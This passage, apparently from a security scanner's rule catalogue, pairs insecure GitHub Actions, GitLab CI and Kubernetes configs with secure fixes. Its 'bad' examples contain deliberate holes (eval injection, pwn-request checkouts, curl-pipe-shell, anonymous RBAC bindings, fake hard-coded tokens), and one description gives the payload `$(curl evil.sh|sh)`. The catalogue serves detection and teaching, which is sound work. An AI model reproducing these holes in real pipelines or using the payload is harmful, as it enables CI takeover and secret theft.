    "description": "A password, token or key written as a literal in `env:` or `with:` is readable by everyone who can read the repository, stays in its history after removal, and is not masked in logs. GitHub encrypted secrets keep the value out of the code and redact it from output.",
    "help": {
      "bad": "on: push\npermissions:\n  contents: read\njobs:\n  publish:\n    runs-on: ubuntu-latest\n    steps:\n      - run: npm publish\n        env:\n          NPM_TOKEN: npm_Xr4Tq9LmZ2vB7kP1sW8yC3dF6gH0jN5aE2iU\n",
      "good": "on: push\npermissions:\n  contents: read\njobs:\n  publish:\n    runs-on: ubuntu-latest\n    steps:\n      - run: npm publish\n        env:\n          NPM_TOKEN: ${{ secrets.NPM_TOKEN }}\n",
      "fix": "Revoke the exposed value, store the new one as an encrypted secret and refer to it as `${{ secrets.NAME }}`."
    },
    "references": [
      "https://docs.github.com/en/actions/security-for-github-actions/security-guides/using-secrets-in-github-actions",
      "https://cwe.mitre.org/data/definitions/798.html"
    ],
    "tags": [
      "github-actions",
      "owasp:A07:2021",
      "secrets"
    ],
    "precision": "medium",
    "platform": "github-actions"
  },
  {
    "id": "iac/gha-input-injection",
    "title": "Workflow or action input expanded into a script",
    "severity": "low",
    "cwe": [
      "CWE-78",
      "CWE-94"
    ],
    "description": "String inputs of `workflow_dispatch`, reusable workflows (`workflow_call`) and composite actions are written directly into a `run:` script when used as `${{ inputs.name }}`. Whoever supplies the input (a user with write access, a calling workflow that forwards a pull request title) can then inject shell commands. Typed inputs (boolean, number, choice) cannot carry arbitrary text and are not reported.",
    "help": {
      "bad": "on:\n  workflow_dispatch:\n    inputs:\n      version:\n        type: string\npermissions:\n  contents: read\njobs:\n  release:\n    runs-on: ubuntu-latest\n    steps:\n      - run: ./release.sh \"${{ inputs.version }}\"\n",
      "good": "on:\n  workflow_dispatch:\n    inputs:\n      version:\n        type: string\npermissions:\n  contents: read\njobs:\n  release:\n    runs-on: ubuntu-latest\n    steps:\n      - run: ./release.sh \"$VERSION\"\n        env:\n          VERSION: ${{ inputs.version }}\n",
      "fix": "Pass the input through `env:` and use the shell variable, or declare it with a restrictive type (`choice`, `boolean`, `number`)."
    },
    "references": [
      "https://docs.github.com/en/actions/security-for-github-actions/security-guides/security-hardening-for-github-actions#understanding-the-risk-of-script-injections",
      "https://docs.github.com/en/actions/sharing-automations/creating-actions/metadata-syntax-for-github-actions#inputs"
    ],
    "tags": [
      "github-actions",
      "owasp:A03:2021",
      "injection"
    ],
    "precision": "medium",
    "platform": "github-actions"
  },
  {
    "id": "iac/gha-missing-permissions",
    "title": "Job runs with the default GITHUB_TOKEN permissions",
    "severity": "low",
    "cwe": [
      "CWE-272"
    ],
    "description": "Without a `permissions` block on the workflow or the job, the GITHUB_TOKEN gets the repository's default permissions, which are read-write for many repositories and organisations. Any step that is compromised (a hijacked action, an injected script) can then push code, create releases or change issues. Declaring permissions keeps the token to what the job needs. Reusable workflows (only `workflow_call`) are not reported: their token is bounded by the caller.",
    "help": {
      "bad": "on: push\njobs:\n  test:\n    runs-on: ubuntu-latest\n    steps:\n      - run: make test\n",
      "good": "on: push\npermissions:\n  contents: read\njobs:\n  test:\n    runs-on: ubuntu-latest\n    steps:\n      - run: make test\n",
      "fix": "Add `permissions: contents: read` (or `permissions: {}`) at the top of the workflow and grant more per job only where needed."
    },
    "references": [
      "https://docs.github.com/en/actions/writing-workflows/choosing-what-your-workflow-does/controlling-permissions-for-github_token",
      "https://docs.github.com/en/actions/security-for-github-actions/security-guides/automatic-token-authentication#modifying-the-permissions-for-the-github_token"
    ],
    "tags": [
      "github-actions",
      "owasp:A05:2021",
      "least-privilege"
    ],
    "precision": "medium",
    "platform": "github-actions"
  },
  {
    "id": "iac/gha-pr-target-contents-write",
    "title": "Fork-triggered privileged workflow can write repository contents",
    "severity": "medium",
    "cwe": [
      "CWE-272"
    ],
    "description": "`pull_request_target` and `workflow_run` workflows are started by pull requests from forks but run with the base repository's token. Granting that token `contents: write` means any mistake in the workflow (an injected expression, a checked-out pull request, a compromised action) lets an outsider push commits, tags or workflow changes to the repository.",
    "help": {
      "bad": "on: pull_request_target\npermissions:\n  contents: write\n  pull-requests: write\njobs:\n  label:\n    runs-on: ubuntu-latest\n    steps:\n      - run: gh pr edit \"$PR\" --add-label triage\n        env:\n          PR: ${{ github.event.pull_request.number }}\n          GH_TOKEN: ${{ github.token }}\n",
      "good": "on: pull_request_target\npermissions:\n  contents: read\n  pull-requests: write\njobs:\n  label:\n    runs-on: ubuntu-latest\n    steps:\n      - run: gh pr edit \"$PR\" --add-label triage\n        env:\n          PR: ${{ github.event.pull_request.number }}\n          GH_TOKEN: ${{ github.token }}\n",
      "fix": "Keep `contents: read` in fork-triggered workflows; grant only the narrow scope the job uses (e.g. `pull-requests: write` to comment)."
    },
    "references": [
      "https://securitylab.github.com/resources/github-actions-preventing-pwn-requests/",
      "https://docs.github.com/en/actions/writing-workflows/choosing-what-your-workflow-does/controlling-permissions-for-github_token"
    ],
    "tags": [
      "github-actions",
      "owasp:A05:2021",
      "least-privilege"
    ],
    "precision": "medium",
    "platform": "github-actions"
  },
  {
    "id": "iac/gha-secrets-inherit",
    "title": "Reusable workflow receives every secret",
    "severity": "low",
    "cwe": [
      "CWE-272"
    ],
    "description": "`secrets: inherit` passes all of the caller's secrets (repository, environment and organisation) to the called workflow, not just the ones it uses. If the called workflow lives in another repository, or is later changed to run untrusted code, every secret is exposed instead of the one or two it needs.",
    "help": {
      "bad": "on: push\npermissions:\n  contents: read\njobs:\n  deploy:\n    uses: ./.github/workflows/deploy.yml\n    secrets: inherit\n",
      "good": "on: push\npermissions:\n  contents: read\njobs:\n  deploy:\n    uses: ./.github/workflows/deploy.yml\n    secrets:\n      deploy-token: ${{ secrets.DEPLOY_TOKEN }}\n",
      "fix": "Pass the secrets the called workflow declares explicitly under `secrets:`."
    },
    "references": [
      "https://docs.github.com/en/actions/sharing-automations/reusing-workflows#passing-inputs-and-secrets-to-a-reusable-workflow"
    ],
    "tags": [
      "github-actions",
      "owasp:A05:2021",
      "least-privilege",
      "secrets"
    ],
    "precision": "medium",
    "platform": "github-actions"
  },
  {
    "id": "iac/gha-secrets-to-unpinned-action",
    "title": "Secret passed to an unpinned third-party action",
    "severity": "medium",
    "cwe": [
      "CWE-829",
      "CWE-200"
    ],
    "description": "A third-party action referenced by tag or branch can change at any time. When a secret or the GITHUB_TOKEN is handed to it through `with:` or `env:`, whoever controls (or compromises) that repository can ship a version that sends the secret elsewhere, and the next workflow run will do it.",
    "help": {
      "bad": "on: push\npermissions:\n  contents: read\njobs:\n  deploy:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: some-org/deploy-action@v3\n        with:\n          api-key: ${{ secrets.DEPLOY_KEY }}\n",
      "good": "on: push\npermissions:\n  contents: read\njobs:\n  deploy:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: some-org/deploy-action@5a4ac9002d0be2fb38bd78e4b4dbde5606d7042f # v3.0.1\n        with:\n          api-key: ${{ secrets.DEPLOY_KEY }}\n",
      "fix": "Pin the action to a full commit SHA you reviewed before giving it secrets, or replace it with a few lines of script you control."
    },
    "references": [
      "https://docs.github.com/en/actions/security-for-github-actions/security-guides/security-hardening-for-github-actions#using-third-party-actions",
      "https://docs.github.com/en/actions/security-for-github-actions/security-guides/using-secrets-in-github-actions"
    ],
    "tags": [
      "github-actions",
      "owasp:A08:2021",
      "supply-chain",
      "secrets"
    ],
    "precision": "high",
    "platform": "github-actions"
  },
  {
    "id": "iac/gha-self-hosted-runner",
    "title": "Self-hosted runner used by a workflow that forks can trigger",
    "severity": "medium",
    "cwe": [
      "CWE-829"
    ],
    "description": "In a public repository, pull requests and comments from anyone can start `pull_request`, `pull_request_target` and `issue_comment` workflows. On a self-hosted runner their code runs on your machine, which is usually not wiped between jobs: it can persist, read other jobs' secrets and caches, and reach the internal network the runner sits in.",
    "help": {
      "bad": "on: pull_request\npermissions:\n  contents: read\njobs:\n  test:\n    runs-on: [self-hosted, linux]\n    steps:\n      - run: make test\n",
      "good": "on: pull_request\npermissions:\n  contents: read\njobs:\n  test:\n    runs-on: ubuntu-latest\n    steps:\n      - run: make test\n",
      "fix": "Run fork-triggered workflows on GitHub-hosted runners, or on ephemeral, isolated self-hosted runners with \"Require approval for all outside collaborators\" enabled; keep persistent self-hosted runners for trusted events such as `push`."
    },
    "references": [
      "https://docs.github.com/en/actions/hosting-your-own-runners/managing-self-hosted-runners/about-self-hosted-runners#self-hosted-runner-security",
      "https://docs.github.com/en/actions/security-for-github-actions/security-guides/security-hardening-for-github-actions#hardening-for-self-hosted-runners"
    ],
    "tags": [
      "github-actions",
      "owasp:A05:2021"
    ],
    "precision": "medium",
    "platform": "github-actions"
  },
  {
    "id": "iac/gha-unpinned-action",
    "title": "Third-party action not pinned to a commit SHA",
    "severity": "medium",
    "cwe": [
      "CWE-829",
      "CWE-494"
    ],
    "description": "A tag or branch (`@v1`, `@main`) can be moved by whoever controls the action's repository, including an attacker who compromised it: the next run executes the new code with the job's token and secrets. Only a full 40-character commit SHA (or an image digest for `docker://` actions) fixes the code that runs. Reusable workflows called from another repository have the same problem.",
    "help": {
      "bad": "on: push\npermissions:\n  contents: read\njobs:\n  lint:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: some-org/lint-action@v2\n",
      "good": "on: push\npermissions:\n  contents: read\njobs:\n  lint:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: some-org/lint-action@8f4b7f84864484a7bf31766abe9204da3cbe65b3 # v2.1.0\n",
      "fix": "Pin the action to the full commit SHA of the release you reviewed, with the version in a comment; let Dependabot or Renovate update it."
    },
    "references": [
      "https://docs.github.com/en/actions/security-for-github-actions/security-guides/security-hardening-for-github-actions#using-third-party-actions",
      "https://owasp.org/www-project-top-10-ci-cd-security-risks/CICD-SEC-03-Dependency-Chain-Abuse"
    ],
    "tags": [
      "github-actions",
      "owasp:A08:2021",
      "supply-chain"
    ],
    "precision": "high",
    "platform": "github-actions"
  },
  {
    "id": "iac/gha-unpinned-github-action",
    "title": "GitHub-owned action not pinned to a commit SHA",
    "severity": "info",
    "cwe": [
      "CWE-829"
    ],
    "description": "Actions owned by GitHub (`actions/*`, `github/*`) are lower risk than third-party ones, but their tags can still move. Pinning them to a commit SHA makes every run reproducible and keeps a compromised tag from reaching the workflow. Repositories that enforce SHA pinning by policy need this for first-party actions too.",
    "help": {
      "bad": "on: push\npermissions:\n  contents: read\njobs:\n  build:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: actions/checkout@v4\n",
      "good": "on: push\npermissions:\n  contents: read\njobs:\n  build:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: actions/checkout@11bd71901bbe5b1630ceea73d27597364c9af683 # v4.2.2\n",
      "fix": "Pin the action to the full commit SHA of the release, keeping the version in a trailing comment for update tools."
    },
    "references": [
      "https://docs.github.com/en/actions/security-for-github-actions/security-guides/security-hardening-for-github-actions#using-third-party-actions"
    ],
    "tags": [
      "github-actions",
      "owasp:A08:2021",
      "supply-chain"
    ],
    "precision": "high",
    "platform": "github-actions"
  },
  {
    "id": "iac/gha-unsecure-commands",
    "title": "Deprecated set-env / add-path workflow commands enabled",
    "severity": "high",
    "cwe": [
      "CWE-77",
      "CWE-94"
    ],
    "description": "`ACTIONS_ALLOW_UNSECURE_COMMANDS: true` turns the removed `::set-env::` and `::add-path::` commands back on. With them, anything a step prints to its log (a file name, a test output, an issue title echoed by a script) can set environment variables such as `NODE_OPTIONS` or `LD_PRELOAD` or change `PATH` for every later step, which leads to code execution.",
    "help": {
      "bad": "on: push\npermissions:\n  contents: read\nenv:\n  ACTIONS_ALLOW_UNSECURE_COMMANDS: true\njobs:\n  build:\n    runs-on: ubuntu-latest\n    steps:\n      - run: make\n",
      "good": "on: push\npermissions:\n  contents: read\njobs:\n  build:\n    runs-on: ubuntu-latest\n    steps:\n      - run: make\n",
      "fix": "Remove the variable and write to the `$GITHUB_ENV` and `$GITHUB_PATH` files instead of printing set-env/add-path commands."
    },
    "references": [
      "https://github.blog/changelog/2020-10-01-github-actions-deprecating-set-env-and-add-path-commands/",
      "https://docs.github.com/en/actions/writing-workflows/choosing-what-your-workflow-does/workflow-commands-for-github-actions#setting-an-environment-variable"
    ],
    "tags": [
      "github-actions",
      "owasp:A05:2021",
      "injection"
    ],
    "precision": "high",
    "platform": "github-actions",
    "checkov": [
      "CKV_GHA_1"
    ]
  },
  {
    "id": "iac/gha-untrusted-checkout",
    "title": "Privileged workflow checks out pull request code",
    "severity": "critical",
    "cwe": [
      "CWE-829",
      "CWE-94"
    ],
    "description": "`pull_request_target`, `workflow_run` and `issue_comment` workflows run in the context of the base repository, with a token that can write and with access to secrets, even when a fork triggered them. Checking out the pull request head (`github.event.pull_request.head.sha`, `refs/pull/N/head`, `gh pr checkout`) and then building, testing or installing it runs the contributor's code with those privileges (a \"pwn request\"): build scripts, package manager hooks and test files are all attacker-controlled.",
    "help": {
      "bad": "on: pull_request_target\npermissions:\n  contents: read\njobs:\n  test:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: actions/checkout@v4\n        with:\n          ref: ${{ github.event.pull_request.head.sha }}\n      - run: npm ci && npm test\n",
      "good": "on: pull_request\npermissions:\n  contents: read\njobs:\n  test:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: actions/checkout@v4\n        with:\n          persist-credentials: false\n      - run: npm ci && npm test\n",
      "fix": "Build and test pull requests in a `pull_request` workflow (no secrets, read-only token); if results must be published with privileges, hand them over as artifacts to a separate `workflow_run` workflow that never executes the pull request's code."
    },
    "references": [
      "https://securitylab.github.com/resources/github-actions-preventing-pwn-requests/",
      "https://docs.github.com/en/actions/writing-workflows/choosing-when-your-workflow-runs/events-that-trigger-workflows#pull_request_target"
    ],
    "tags": [
      "github-actions",
      "owasp:A08:2021",
      "supply-chain"
    ],
    "precision": "medium",
    "platform": "github-actions"
  },
  {
    "id": "iac/gha-untrusted-env-write",
    "title": "Untrusted input written to GITHUB_ENV in a privileged workflow",
    "severity": "high",
    "cwe": [
      "CWE-94",
      "CWE-15"
    ],
    "description": "Lines appended to `$GITHUB_ENV` (or `$GITHUB_PATH`) become environment variables (or PATH entries) of every later step. When the value comes from an issue, comment, pull request title, branch name or commit message, a newline in it lets the author add their own variables, such as `NODE_OPTIONS=--require=...`, `LD_PRELOAD` or `BASH_ENV`, and run code in later steps. Passing the value through `env:` avoids script injection but not this. In workflows started by outsiders with a write token and secrets, that is a takeover.",
    "help": {
      "bad": "on: pull_request_target\npermissions:\n  contents: read\njobs:\n  build:\n    runs-on: ubuntu-latest\n    steps:\n      - env:\n          BRANCH: ${{ github.event.pull_request.head.ref }}\n        run: |\n          echo \"PR_BRANCH=$BRANCH\" >> \"$GITHUB_ENV\"\n      - run: ./scripts/report.sh\n",
      "good": "on: pull_request_target\npermissions:\n  contents: read\njobs:\n  build:\n    runs-on: ubuntu-latest\n    env:\n      PR_BRANCH: ${{ github.event.pull_request.head.ref }}\n    steps:\n      - run: ./scripts/report.sh\n",
      "fix": "Set the variable with `env:` on the steps that need it instead of writing it to `$GITHUB_ENV`; if it must go through the file, strip newlines and validate the value first."
    },
    "references": [
      "https://docs.github.com/en/actions/writing-workflows/choosing-what-your-workflow-does/workflow-commands-for-github-actions#setting-an-environment-variable",
      "https://securitylab.github.com/resources/github-actions-new-patterns-and-mitigations/"
    ],
    "tags": [
      "github-actions",
      "owasp:A03:2021",
      "injection"
    ],
    "precision": "high",
    "platform": "github-actions"
  },
  {
    "id": "iac/gha-write-all-permissions",
    "title": "GITHUB_TOKEN granted write-all permissions",
    "severity": "medium",
    "cwe": [
      "CWE-272",
      "CWE-250"
    ],
    "description": "`permissions: write-all` gives the workflow's token write access to every scope: contents, packages, deployments, pull requests, actions and more. A single compromised step can then push to branches, publish packages or change workflows. Jobs rarely need more than one or two write scopes.",
    "help": {
      "bad": "on: push\npermissions: write-all\njobs:\n  release:\n    runs-on: ubuntu-latest\n    steps:\n      - run: ./release.sh\n",
      "good": "on: push\npermissions:\n  contents: write\njobs:\n  release:\n    runs-on: ubuntu-latest\n    steps:\n      - run: ./release.sh\n",
      "fix": "List only the scopes the job needs (`contents: write`, `packages: write`, ...), preferably on the job rather than the workflow."
    },
    "references": [
      "https://docs.github.com/en/actions/writing-workflows/choosing-what-your-workflow-does/controlling-permissions-for-github_token"
    ],
    "tags": [
      "github-actions",
      "owasp:A05:2021",
      "least-privilege"
    ],
    "precision": "high",
    "platform": "github-actions",
    "checkov": [
      "CKV2_GHA_1"
    ]
  },
  {
    "id": "iac/gitlab-curl-pipe-shell",
    "title": "Downloaded script piped into a shell",
    "severity": "medium",
    "cwe": [
      "CWE-494"
    ],
    "description": "`curl ... | sh` runs whatever the server returns at that moment, with no checksum or signature check, inside a job that holds the project's CI/CD variables and job token. A compromised download host, a hijacked domain or a changed script silently becomes code running in the pipeline.",
    "help": {
      "bad": "setup:\n  script:\n    - curl -sSL https://example.com/install.sh | sh\n",
      "good": "setup:\n  script:\n    - curl -sSLo install.sh https://example.com/v1.2.3/install.sh\n    - echo \"3f1c0e5d6c2b9a8e7f4d1c0b9a8e7f6d5c4b3a2918d7e6f5a4b3c2d1e0f9a8b7  install.sh\" | sha256sum -c -\n    - sh install.sh\n",
      "fix": "Download a versioned file, verify its checksum or signature, then run it; or bake the tool into a pinned CI image."
    },
    "references": [
      "https://owasp.org/www-project-top-10-ci-cd-security-risks/CICD-SEC-03-Dependency-Chain-Abuse"
    ],
    "tags": [
      "gitlab-ci",
      "owasp:A08:2021",
      "supply-chain"
    ],
    "precision": "high",
    "platform": "gitlab-ci"
  },
  {
    "id": "iac/gitlab-dind-without-tls",
    "title": "Docker-in-Docker service runs without TLS",
    "severity": "medium",
    "cwe": [
      "CWE-319"
    ],
    "description": "With `DOCKER_TLS_CERTDIR: \"\"` (or `--tls=false`), the `docker:dind` service exposes an unauthenticated Docker API on port 2375. Any process that can reach the service on the runner's network (other services, other jobs on a shared host) can start privileged containers, read build secrets and tamper with the images being built.",
    "help": {
      "bad": "build:\n  image: docker:27.3\n  services:\n    - docker:27.3-dind\n  variables:\n    DOCKER_HOST: tcp://docker:2375\n    DOCKER_TLS_CERTDIR: \"\"\n  script:\n    - docker build -t app .\n",
      "good": "build:\n  image: docker:27.3\n  services:\n    - docker:27.3-dind\n  variables:\n    DOCKER_TLS_CERTDIR: \"/certs\"\n  script:\n    - docker build -t app .\n",
      "fix": "Keep TLS on: set `DOCKER_TLS_CERTDIR: \"/certs\"` (the image default) and let the client use `tcp://docker:2376` with the generated certificates."
    },
    "references": [
      "https://docs.gitlab.com/ee/ci/docker/using_docker_build.html#docker-in-docker-with-tls-enabled-in-the-docker-executor"
    ],
    "tags": [
      "gitlab-ci",
      "owasp:A02:2021"
    ],
    "precision": "high",
    "platform": "gitlab-ci"
  },
  {
    "id": "iac/gitlab-hardcoded-secret",
    "title": "Hard-coded secret in CI variables",
    "severity": "high",
    "cwe": [
      "CWE-798"
    ],
    "description": "A password, token or key written in `variables:` of `.gitlab-ci.yml` is visible to everyone who can read the repository, stays in its history, and is not masked in job logs. CI/CD variables defined in the project or group settings (masked and protected) keep the value out of the code.",
    "help": {
      "bad": "variables:\n  DEPLOY_TOKEN: glpat-Xr4Tq9LmZ2vB7kP1sW8y\n\ndeploy:\n  script:\n    - ./deploy.sh\n",
      "good": "# DEPLOY_TOKEN is a masked, protected CI/CD variable in the project settings\ndeploy:\n  script:\n    - ./deploy.sh\n",
      "fix": "Revoke the value, then define it as a masked and protected CI/CD variable in the project or group settings (or use an external secrets provider)."
    },
    "references": [
      "https://docs.gitlab.com/ee/ci/variables/#define-a-cicd-variable-in-the-ui",
      "https://docs.gitlab.com/ee/ci/secrets/"
    ],
    "tags": [
      "gitlab-ci",
      "owasp:A07:2021",
      "secrets"
    ],
    "precision": "medium",
    "platform": "gitlab-ci"
  },
  {
    "id": "iac/gitlab-image-latest",
    "title": "CI image without a version tag",
    "severity": "low",
    "cwe": [
      "CWE-829"
    ],
    "description": "An `image:` or service without a tag, or tagged `latest`, resolves to whatever was pushed last. Jobs can break or change behaviour without a commit, and a compromised or replaced image runs with the job's CI/CD variables and token.",
    "help": {
      "bad": "test:\n  image: node\n  script:\n    - npm test\n",
      "good": "test:\n  image: node:22.11-alpine\n  script:\n    - npm test\n",
      "fix": "Use a specific version tag, or better a digest (`image: node:22.11-alpine@sha256:...`), and update it deliberately."
    },
    "references": [
      "https://docs.gitlab.com/ee/ci/yaml/#image",
      "https://docs.gitlab.com/ee/ci/docker/using_docker_images.html"
    ],
    "tags": [
      "gitlab-ci",
      "owasp:A08:2021",
      "supply-chain"
    ],
    "precision": "high",
    "platform": "gitlab-ci"
  },
  {
    "id": "iac/gitlab-security-job-allow-failure",
    "title": "Security scan job allowed to fail",
    "severity": "low",
    "cwe": [
      "CWE-693"
    ],
    "description": "`allow_failure: true` on a scanning job (SAST, secret detection, dependency or container scanning) lets the pipeline pass when the scan finds problems or does not run at all, so the gate exists only on paper. Findings are easy to miss once the job is shown as a warning.",
    "help": {
      "bad": "secret_detection:\n  stage: test\n  allow_failure: true\n  script:\n    - gitleaks detect --source .\n",
      "good": "secret_detection:\n  stage: test\n  allow_failure: false\n  script:\n    - gitleaks detect --source .\n",
      "fix": "Let the scan fail the pipeline (`allow_failure: false`), and handle accepted findings with the scanner's own baseline or ignore file."
    },
    "references": [
      "https://docs.gitlab.com/ee/ci/yaml/#allow_failure",
      "https://docs.gitlab.com/ee/user/application_security/"
    ],
    "tags": [
      "gitlab-ci",
      "owasp:A05:2021"
    ],
    "precision": "medium",
    "platform": "gitlab-ci"
  },
  {
    "id": "iac/gitlab-tls-verification-disabled",
    "title": "TLS certificate verification disabled in CI",
    "severity": "medium",
    "cwe": [
      "CWE-295"
    ],
    "description": "Turning off certificate checks (`GIT_SSL_NO_VERIFY`, `NODE_TLS_REJECT_UNAUTHORIZED: \"0\"`, `curl -k`, `git config http.sslVerify false`) lets anyone on the network path between the runner and the server impersonate the server: fetched code, packages and artifacts can be swapped, and credentials sent to it captured.",
    "help": {
      "bad": "variables:\n  GIT_SSL_NO_VERIFY: \"true\"\n\nbuild:\n  script:\n    - make\n",
      "good": "variables:\n  CA_BUNDLE: /etc/ssl/certs/internal-ca.pem\n\nbuild:\n  script:\n    - make\n",
      "fix": "Install the internal CA certificate on the runner or in the image (or point `SSL_CERT_FILE` / `NODE_EXTRA_CA_CERTS` at it) instead of disabling verification."
    },
    "references": [
      "https://docs.gitlab.com/runner/configuration/tls-self-signed.html",
      "https://cwe.mitre.org/data/definitions/295.html"
    ],
    "tags": [
      "gitlab-ci",
      "owasp:A07:2021"
    ],
    "precision": "high",
    "platform": "gitlab-ci"
  },
  {
    "id": "iac/gitlab-unpinned-include",
    "title": "Included CI configuration is not pinned",
    "severity": "medium",
    "cwe": [
      "CWE-829",
      "CWE-494"
    ],
    "description": "`include:` pulls pipeline configuration from elsewhere at every run. A `remote:` URL, a `project:` without `ref:` (its default branch) or a branch ref, and a `component:` at `~latest` or a branch all run whatever is there now: whoever can change that file or host can add jobs that read this project's CI/CD variables and deploy credentials.",
    "help": {
      "bad": "include:\n  - project: platform/ci-templates\n    file: /templates/build.yml\n",
      "good": "include:\n  - project: platform/ci-templates\n    ref: v2.3.1\n    file: /templates/build.yml\n",
      "fix": "Pin `project:` includes with `ref:` set to a commit SHA or release tag, components to a released version, and add `integrity:` to remote includes (or vendor the file into the repository)."
    },
    "references": [
      "https://docs.gitlab.com/ee/ci/yaml/#include",
      "https://docs.gitlab.com/ee/ci/yaml/includes.html"
    ],
    "tags": [
      "gitlab-ci",
      "owasp:A08:2021",
      "supply-chain"
    ],
    "precision": "high",
    "platform": "gitlab-ci"
  },
  {
    "id": "iac/gitlab-untrusted-variable-eval",
    "title": "Commit or merge request text evaluated as code",
    "severity": "high",
    "cwe": [
      "CWE-78"
    ],
    "description": "Variables such as `$CI_COMMIT_MESSAGE`, `$CI_MERGE_REQUEST_TITLE` and branch names are chosen by whoever pushes the commit or opens the merge request. Used as a plain shell variable they are data, but inside `eval` or in the double-quoted script of `sh -c` / `bash -c` they are expanded first and then parsed as shell code, so a title like `$(curl evil.sh|sh)` runs in the job with its CI/CD variables.",
    "help": {
      "bad": "notify:\n  script:\n    - eval \"./notify.sh --title \\\"$CI_MERGE_REQUEST_TITLE\\\"\"\n",
      "good": "notify:\n  script:\n    - ./notify.sh --title \"$CI_MERGE_REQUEST_TITLE\"\n",
      "fix": "Pass the variable as a quoted argument (`\"$CI_COMMIT_MESSAGE\"`) instead of building code from it; inside `sh -c`, use single quotes so the inner shell reads it as a variable."
    },
    "references": [
      "https://docs.gitlab.com/ee/ci/variables/predefined_variables.html",
      "https://owasp.org/www-project-top-10-ci-cd-security-risks/CICD-SEC-04-Poisoned-Pipeline-Execution"
    ],
    "tags": [
      "gitlab-ci",
      "owasp:A03:2021",
      "injection"
    ],
    "precision": "high",
    "platform": "gitlab-ci"
  },
  {
    "id": "iac/k8s-allow-privilege-escalation",
    "title": "Container allows privilege escalation",
    "severity": "medium",
    "cwe": [
      "CWE-269"
    ],
    "description": "Unless `allowPrivilegeEscalation` is `false`, a process in the container can gain more privileges than its parent (setuid binaries, file capabilities). Setting it to `false` sets the `no_new_privs` flag and closes that path to root.",
    "help": {
      "bad": "apiVersion: apps/v1\nkind: Deployment\nmetadata:\n  name: web\nspec:\n  template:\n    spec:\n      containers:\n        - name: app\n          image: registry.example.com/web:1.4.2\n",
      "good": "apiVersion: apps/v1\nkind: Deployment\nmetadata:\n  name: web\nspec:\n  template:\n    spec:\n      containers:\n        - name: app\n          image: registry.example.com/web:1.4.2\n          securityContext:\n            allowPrivilegeEscalation: false\n",
      "fix": "Set `securityContext.allowPrivilegeEscalation: false` on every container."
    },
    "references": [
      "https://kubernetes.io/docs/tasks/configure-pod-container/security-context/",
      "https://kubernetes.io/docs/concepts/security/pod-security-standards/"
    ],
    "precision": "high",
    "checkov": [
      "CKV_K8S_20"
    ],
    "platform": "kubernetes",
    "tags": [
      "kubernetes",
      "owasp:A05:2021"
    ]
  },
  {
    "id": "iac/k8s-anonymous-binding",
    "title": "Role bound to anonymous or unauthenticated users",
    "severity": "critical",
    "cwe": [
      "CWE-306",
      "CWE-269"
    ],
    "description": "Binding a role to the `system:anonymous` user or the `system:unauthenticated` group grants it to anyone who can reach the API server, without credentials.",
    "help": {
      "bad": "apiVersion: rbac.authorization.k8s.io/v1\nkind: ClusterRoleBinding\nmetadata:\n  name: public-read\nsubjects:\n  - kind: Group\n    apiGroup: rbac.authorization.k8s.io\n    name: system:unauthenticated\nroleRef:\n  apiGroup: rbac.authorization.k8s.io\n  kind: ClusterRole\n  name: view\n",
      "good": "apiVersion: rbac.authorization.k8s.io/v1\nkind: ClusterRoleBinding\nmetadata:\n  name: team-read\nsubjects:\n  - kind: Group\n    apiGroup: rbac.authorization.k8s.io\n    name: shop-developers\nroleRef:\n  apiGroup: rbac.authorization.k8s.io\n  kind: ClusterRole\n  name: view\n",
      "fix": "Bind the role to the authenticated users or groups that need it."
    },
    "references": [
      "https://kubernetes.io/docs/reference/access-authn-authz/authentication/#anonymous-requests",
      "https://kubernetes.io/docs/concepts/security/rbac-good-practices/"
    ],
    "tags": [
      "kubernetes",
      "owasp:A01:2021"
    ],
    "precision": "high",
    "platform": "kubernetes"
  },
  {
    "id": "iac/k8s-apparmor-unconfined",
    "title": "AppArmor explicitly disabled (unconfined)",
    "severity": "medium",
    "cwe": [
      "CWE-693"
    ],
    "description": "On nodes with AppArmor, the runtime's default profile stops a container from writing to `/proc` and `/sys` files, mounting filesystems and other escape techniques. `Unconfined` removes that profile. The Baseline Pod Security Standard forbids it.",
    "help": {
      "bad": "apiVersion: v1\nkind: Pod\nmetadata:\n  name: web\nspec:\n  containers:\n    - name: app\n      image: registry.example.com/web:1.4.2\n      securityContext:\n        appArmorProfile:\n          type: Unconfined\n",
      "good": "apiVersion: v1\nkind: Pod\nmetadata:\n  name: web\nspec:\n  containers:\n    - name: app\n      image: registry.example.com/web:1.4.2\n      securityContext:\n        appArmorProfile:\n          type: RuntimeDefault\n",
      "fix": "Use `appArmorProfile.type: RuntimeDefault` (or a `Localhost` profile written for the application)."
    },
    "references": [
      "https://kubernetes.io/docs/tutorials/security/apparmor/",
      "https://kubernetes.io/docs/concepts/security/pod-security-standards/"
    ],
    "precision": "high",
    "platform": "kubernetes",
    "tags": [
      "kubernetes",
      "owasp:A05:2021"
    ]
  },
  {
    "id": "iac/k8s-capabilities-not-dropped",
    "title": "Container does not drop all capabilities",
    "severity": "low",
    "cwe": [
      "CWE-250"
    ],
    "description": "Container runtimes grant a default set of capabilities (NET_RAW, CHOWN, SETUID, DAC_OVERRIDE, ...) that most applications never use; NET_RAW alone allows packet spoofing inside the cluster network. Dropping ALL and adding back only what is needed is required by the Restricted Pod Security Standard.",
    "help": {
      "bad": "apiVersion: v1\nkind: Pod\nmetadata:\n  name: web\nspec:\n  containers:\n    - name: app\n      image: registry.example.com/web:1.4.2\n      securityContext:\n        capabilities:\n          drop: [\"NET_RAW\"]\n",
      "good": "apiVersion: v1\nkind: Pod\nmetadata:\n  name: web\nspec:\n  containers:\n    - name: app\n      image: registry.example.com/web:1.4.2\n      securityContext:\n        capabilities:\n          drop: [\"ALL\"]\n",
      "fix": "Set `securityContext.capabilities.drop: [\"ALL\"]` and add back only the capabilities the process needs."
    },
    "references": [
      "https://kubernetes.io/docs/concepts/security/pod-security-standards/",
      "https://kubernetes.io/docs/tasks/configure-pod-container/security-context/#set-capabilities-for-a-container"
    ],
    "precision": "medium",
    "checkov": [
      "CKV_K8S_37"
    ],
    "platform": "kubernetes",
    "tags": [
      "kubernetes",
      "owasp:A05:2021"
    ]
  },
  {
    "id": "iac/k8s-cluster-admin-binding",
